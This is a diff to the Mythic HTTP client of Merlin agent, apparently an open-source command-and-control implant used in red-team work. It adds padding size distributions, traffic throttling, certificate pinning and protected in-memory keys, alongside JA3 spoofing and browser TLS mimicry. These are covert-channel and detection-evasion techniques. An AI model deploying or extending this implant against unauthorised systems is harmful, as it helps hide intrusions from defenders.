@@ -32,7 +32,6 @@ import (
 	"encoding/json"
 	"fmt"
 	"io"
-	rand2 "math/rand"
 	"net"
 	"net/http"
 	"net/url"
@@ -57,18 +56,16 @@ import (
 	"github.com/Ne0nd0g/merlin-agent/v2/authenticators"
 	rsaAuthenticaor "github.com/Ne0nd0g/merlin-agent/v2/authenticators/rsa"
 	"github.com/Ne0nd0g/merlin-agent/v2/cli"
+	"github.com/Ne0nd0g/merlin-agent/v2/clients/padding"
+	"github.com/Ne0nd0g/merlin-agent/v2/clients/pin"
+	"github.com/Ne0nd0g/merlin-agent/v2/clients/throttle"
 	"github.com/Ne0nd0g/merlin-agent/v2/clients/utls"
 	"github.com/Ne0nd0g/merlin-agent/v2/core"
+	"github.com/Ne0nd0g/merlin-agent/v2/heap"
 	"github.com/Ne0nd0g/merlin-agent/v2/services/agent"
 	transformer "github.com/Ne0nd0g/merlin-agent/v2/transformers"
-	b64 "github.com/Ne0nd0g/merlin-agent/v2/transformers/encoders/base64"
-	"github.com/Ne0nd0g/merlin-agent/v2/transformers/encoders/gob"
-	"github.com/Ne0nd0g/merlin-agent/v2/transformers/encoders/hex"
-	mythicEncoder "github.com/Ne0nd0g/merlin-agent/v2/transformers/encoders/mythic"
-	aes2 "github.com/Ne0nd0g/merlin-agent/v2/transformers/encrypters/aes"
-	"github.com/Ne0nd0g/merlin-agent/v2/transformers/encrypters/jwe"
-	"github.com/Ne0nd0g/merlin-agent/v2/transformers/encrypters/rc4"
-	"github.com/Ne0nd0g/merlin-agent/v2/transformers/encrypters/xor"
+	"github.com/Ne0nd0g/merlin-agent/v2/transformers/chains"
+	_ "github.com/Ne0nd0g/merlin-agent/v2/transformers/encoders/mythic"
 )
 
 // socksConnection is used to map the Mythic incremental integer used for tracking connections to a UUID leveraged by the agent
@@ -90,13 +87,15 @@ type Client struct {
 	Proxy         string                    // Proxy string
 	Headers       map[string]string         // Additional HTTP headers to add to the request
 	UserAgent     string                    // HTTP User-Agent value
-	PaddingMax    int                       // PaddingMax is the maximum size allowed for a randomly selected message padding length
+	padding       *padding.Profile          // padding selects the amount of random padding added to each Base message
+	throttle      *throttle.Limiter         // throttle limits the rate, in bytes per second, that data is sent
 	JA3           string                    // JA3 is a string that represents how the TLS client should be configured, if applicable
 	Parrot        string                    // Parrot is a feature of the github.com/refraction-networking/utls to mimic a specific browser
-	psk           []byte                    // PSK is the Pre-Shared Key secret the agent will use to start encrypted key exchange
-	secret        []byte                    // Secret is the current key that is being used to encrypt & decrypt data
+	psk           heap.Secret               // PSK is the Pre-Shared Key secret the agent will use to start encrypted key exchange
+	secret        heap.Secret               // Secret is the current key that is being used to encrypt & decrypt data
 	privKey       *rsa.PrivateKey           // Agent's RSA Private key to decrypt traffic
 	insecureTLS   bool                      // insecureTLS is a boolean that determines if the InsecureSkipVerify flag is set to true or false
+	pins          pin.Pins                  // pins is a list of the server's pinned public key hashes; empty disables pinning
 	transformers  []transformer.Transformer // Transformers an ordered list of transforms (encoding/encryption) to apply when constructing a message
 }
 
@@ -113,8 +112,10 @@ type Config struct {
 	PSK          string    // PSK is the Pre-Shared Key secret the agent will use to start authentication
 	JA3          string    // JA3 is a string that represents how the TLS client should be configured, if applicable
 	Parrot       string    // Parrot is a feature of the github.com/refraction-networking/utls to mimic a specific browser
-	Padding      string    // Padding is the max amount of data that will be randomly selected and appended to every message
+	Padding      string    // Padding is the padding profile: the max amount of random data appended to every message (e.g., 4096) or size distributions per message type (e.g., checkin=lognormal:600:0.5;normal:2048:512)
+	Throttle     string    // Throttle is the maximum rate, in bytes per second, that data is sent (e.g., 512K); empty is unlimited
 	InsecureTLS  bool      // InsecureTLS is a boolean that determines if the InsecureSkipVerify flag is set to true or false
+	Pin          string    // Pin is a comma separated list of pinned SPKI SHA256 hashes or certificates the server must present
 	Transformers string    // Transformers is an ordered comma seperated list of transforms (encoding/encryption) to apply when constructing a message
 }
 
@@ -141,17 +142,24 @@ func New(config Config) (*Client, error) {
 		return &client, err
 	}
 
+	// Parse the pinned server public keys
+	client.pins, err = pin.Parse(config.Pin)
+	if err != nil {
+		return &client, fmt.Errorf("clients/mythic.New(): %s", err)
+	}
+
 	// Get the HTTP client
-	client.Client, err = getClient(client.Protocol, client.Proxy, client.JA3, client.Parrot, client.insecureTLS)
+	client.Client, err = getClient(client.Protocol, client.Proxy, client.JA3, client.Parrot, client.insecureTLS, client.pins)
 	if err != nil {
 		return &client, err
 	}
 
 	// Set PSK
-	client.psk, err = base64.StdEncoding.DecodeString(config.PSK)
+	psk, err := base64.StdEncoding.DecodeString(config.PSK)
 	if err != nil {
 		return &client, fmt.Errorf("there was an error Base64 decoding the PSK:\n%s", err)
 	}
+	client.psk = heap.NewSecret(psk)
 	client.secret = client.psk
 
 	// Set up the Authenticator
@@ -172,45 +180,21 @@ func New(config Config) (*Client, error) {
 	}
 
 	// Transformers
-	transforms := strings.Split(config.Transformers, ",")
-	for _, transform := range transforms {
-		var t transformer.Transformer
-		switch strings.ToLower(transform) {
-		case "aes":
-			t = aes2.NewEncrypter()
-		case "base64-byte":
-			t = b64.NewEncoder(b64.BYTE)
-		case "base64-string":
-			t = b64.NewEncoder(b64.STRING)
-		case "gob-base":
-			t = gob.NewEncoder(gob.BASE)
-		case "gob-string":
-			t = gob.NewEncoder(gob.STRING)
-		case "hex-byte":
-			t = hex.NewEncoder(hex.BYTE)
-		case "hex-string":
-			t = hex.NewEncoder(hex.STRING)
-		case "jwe":
-			t = jwe.NewEncrypter()
-		case "mythic":
-			t = mythicEncoder.NewEncoder()
-		case "rc4":
-			t = rc4.NewEncrypter()
-		case "xor":
-			t = xor.NewEncrypter()
-		default:
-			err = fmt.Errorf("clients/mythic.New(): unhandled transform type: %s", transform)
-			if err != nil {
-				return nil, err
-			}
-		}
-		client.transformers = append(client.transformers, t)
+	client.transformers, err = chains.Chain(config.Transformers)
+	if err != nil {
+		return nil, fmt.Errorf("clients/mythic.New(): %s", err)
+	}
+
+	// Message padding profile
+	client.padding, err = padding.New(config.Padding)
+	if err != nil {
+		return &client, fmt.Errorf("clients/mythic.New(): %s", err)
 	}
 
-	// Parse Padding Value
-	client.PaddingMax, err = strconv.Atoi(config.Padding)
+	// Outbound bandwidth throttle
+	client.throttle, err = throttle.New(config.Throttle)
 	if err != nil {
-		cli.Message(cli.WARN, fmt.Sprintf("there was an error converting Padding string \"%s\" to an integer: %s", config.Padding, err))
+		return &client, fmt.Errorf("clients/mythic.New(): %s", err)
 	}
 
 	cli.Message(cli.INFO, "Client information:")
@@ -222,9 +206,12 @@ func New(config Config) (*Client, error) {
 	cli.Message(cli.INFO, fmt.Sprintf("\tUser-Agent: %s", client.UserAgent))
 	cli.Message(cli.INFO, fmt.Sprintf("\tHTTP Host Header: %s", client.Host))
 	cli.Message(cli.INFO, fmt.Sprintf("\tProxy: %s", client.Proxy))
-	cli.Message(cli.INFO, fmt.Sprintf("\tPayload Padding Max: %d", client.PaddingMax))
+	cli.Message(cli.INFO, fmt.Sprintf("\tPayload Padding: %s", client.padding))
 	cli.Message(cli.INFO, fmt.Sprintf("\tJA3 String: %s", client.JA3))
 	cli.Message(cli.INFO, fmt.Sprintf("\tParrot String: %s", client.Parrot))
+	if len(client.pins) > 0 {
+		cli.Message(cli.INFO, fmt.Sprintf("\tPinned Public Keys: %s", client.pins))
+	}
 	cli.Message(cli.INFO, fmt.Sprintf("\tInsecure TLS: %t", client.insecureTLS))
 
 	return &client, nil
@@ -262,7 +249,7 @@ func (client *Client) Authenticate(msg messages.Base) (err error) {
 			}
 			// Don't update the secret if the authenticator returned an empty key
 			if len(key) > 0 {
-				client.secret = key
+				client.secret = heap.NewSecret(key)
 			}
 			// Mythic returns a new UUID after authentication has been completed
 			client.MythicID = msg.ID
@@ -309,8 +296,8 @@ func (client *Client) Send(m messages.Base) (returnMessages []messages.Base, err
 	cli.Message(cli.DEBUG, fmt.Sprintf("input message base:\n%+v", m))
 
 	// Set the message padding
-	if client.PaddingMax > 0 {
-		m.Padding = core.RandStringBytesMaskImprSrc(rand2.Intn(client.PaddingMax))
+	if size := client.padding.Size(m.Type); size > 0 {
+		m.Padding = core.RandStringBytesMaskImprSrc(size)
 	}
 	cli.Message(cli.DEBUG, fmt.Sprintf("Added message padding size: %d", len(m.Padding)))
 
@@ -352,6 +339,11 @@ func (client *Client) Send(m messages.Base) (returnMessages []messages.Base, err
 		}
 	}
 
+	// Throttle the request body, the Content-Length header is already set
+	if client.throttle.Rate() > 0 {
+		req.Body = io.NopCloser(client.throttle.Reader(req.Body))
+	}
+
 	// Send the request
 	cli.Message(cli.DEBUG, fmt.Sprintf("Sending POST request size: %d to: %s", req.ContentLength, client.URL))
 	cli.Message(cli.DEBUG, fmt.Sprintf("HTTP Request:\n%+v", req))
@@ -428,6 +420,16 @@ func (client *Client) Initial() (err error) {
 	return
 }
 
+// Padding returns the profile that selects the amount of random padding added to each Base message
+func (client *Client) Padding() *padding.Profile {
+	return client.padding
+}
+
+// SetPadding replaces the profile that selects the amount of random padding added to each Base message
+func (client *Client) SetPadding(profile *padding.Profile) {
+	client.padding = profile
+}
+
 // Set is a generic function used to modify a Client's field values
 func (client *Client) Set(key string, value string) error {
 	cli.Message(cli.DEBUG, "Entering into clients.mythic.Set()...")
@@ -436,18 +438,22 @@ func (client *Client) Set(key string, value string) error {
 	switch strings.ToLower(key) {
 	case "ja3":
 		ja3String := strings.Trim(value, "\"'")
-		client.Client, err = getClient(client.Protocol, client.Proxy, ja3String, client.Parrot, client.insecureTLS)
+		client.Client, err = getClient(client.Protocol, client.Proxy, ja3String, client.Parrot, client.insecureTLS, client.pins)
 		if ja3String != "" {
 			cli.Message(cli.NOTE, fmt.Sprintf("Set agent JA3 signature to:%s", ja3String))
 		} else if ja3String == "" {
 			cli.Message(cli.NOTE, fmt.Sprintf("Setting agent client back to default using %s protocol", client.Protocol))
 		}
 		client.JA3 = ja3String
-	case "paddingmax":
-		client.PaddingMax, err = strconv.Atoi(value)
+	case "throttle":
+		err = client.throttle.Set(value)
+	case "refresh":
+		// The host's network changed; rebuild the client to re-read the proxy settings and drop pooled connections
+		client.Client, err = getClient(client.Protocol, client.Proxy, client.JA3, client.Parrot, client.insecureTLS, client.pins)
+		cli.Message(cli.NOTE, fmt.Sprintf("Refreshed the %s client after a network change", client.Protocol))
 	case "parrot":
 		parrot := strings.Trim(value, "\"'")
-		client.Client, err = getClient(client.Protocol, client.Proxy, client.JA3, parrot, client.insecureTLS)
+		client.Client, err = getClient(client.Protocol, client.Proxy, client.JA3, parrot, client.insecureTLS, client.pins)
 		if parrot != "" {
 			cli.Message(cli.NOTE, fmt.Sprintf("Set agent HTTP transport parrot to:%s", parrot))
 		} else if parrot == "" {
@@ -467,8 +473,8 @@ func (client *Client) Get(key string) string {
 	switch strings.ToLower(key) {
 	case "ja3":
 		return client.JA3
-	case "paddingmax":
-		return strconv.Itoa(client.PaddingMax)
+	case "throttle":
+		return strconv.Itoa(client.throttle.Rate())
 	case "parrot":
 		return client.Parrot
 	case "protocol":
@@ -479,7 +485,7 @@ func (client *Client) Get(key string) string {
 }
 
 // getClient returns an HTTP client for the passed protocol, proxy, and ja3 string
-func getClient(protocol string, proxyURL string, ja3 string, parrot string, insecure bool) (*http.Client, error) {
+func getClient(protocol string, proxyURL string, ja3 string, parrot string, insecure bool, pins pin.Pins) (*http.Client, error) {
 	cli.Message(cli.DEBUG, "Entering into clients.mythic.getClient()...")
 	cli.Message(cli.DEBUG, fmt.Sprintf("Protocol: %s, Proxy: %s, JA3 String: %s, Parrot: %s", protocol, proxyURL, ja3, parrot))
 	/* #nosec G402 */
@@ -488,6 +494,8 @@ func getClient(protocol string, proxyURL string, ja3 string, parrot string, inse
 	TLSConfig := &tls.Config{
 		MinVersion:         tls.VersionTLS12,
 		InsecureSkipVerify: insecure, // #nosec G402 - intentionally configurable to allow self-signed certificates. See https://github.com/Ne0nd0g/merlin/issues/59
+		// Certificate pinning is enforced even when InsecureSkipVerify is true
+		VerifyPeerCertificate: pins.VerifyPeerCertificate(),
 		CipherSuites: []uint16{
 			tls.TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384,
 			tls.TLS_ECDHE_RSA_WITH_AES_256_CBC_SHA,
@@ -502,7 +510,7 @@ func getClient(protocol string, proxyURL string, ja3 string, parrot string, inse
 
 	// JA3
 	if ja3 != "" {
-		transport, err := utls.NewTransportFromJA3(ja3, insecure, proxyFunc)
+		transport, err := utls.NewTransportFromJA3(ja3, insecure, pins.VerifyPeerCertificate(), proxyFunc)
 		if err != nil {
 			return nil, err
 		}
@@ -512,7 +520,7 @@ func getClient(protocol string, proxyURL string, ja3 string, parrot string, inse
 	// Parrot - If a JA3 string was set, it will be used, and the parroting will be ignored
 	if parrot != "" {
 		// Build the transport
-		transport, err := utls.NewTransportFromParrot(parrot, insecure, proxyFunc)
+		transport, err := utls.NewTransportFromParrot(parrot, insecure, pins.VerifyPeerCertificate(), proxyFunc)
 		if err != nil {
 			return nil, err
 		}
@@ -565,7 +573,7 @@ func (client *Client) Deconstruct(data []byte) (returnMessages []messages.Base,
 			ret, err = t.Deconstruct(data, []byte(client.MythicID.String()))
 			data = ret.([]byte)
 		} else {
-			ret, err = t.Deconstruct(data, client.secret)
+			ret, err = t.Deconstruct(data, client.secret.Open())
 			data = ret.([]byte)
 		}
 		if err != nil {
@@ -915,7 +923,7 @@ func (client *Client) Construct(m messages.Base) ([]byte, error) {
 		if client.transformers[i-1].String() == "mythic" {
 			data, err = client.transformers[i-1].Construct(data, []byte(client.MythicID.String()))
 		} else {
-			data, err = client.transformers[i-1].Construct(data, client.secret)
+			data, err = client.transformers[i-1].Construct(data, client.secret.Open())
 		}
 		cli.Message(cli.DEBUG, fmt.Sprintf("%d call with transform %s - Constructed data(%d) %T: %X\n", i, client.transformers[i-1], len(data), data, data))
 		if err != nil {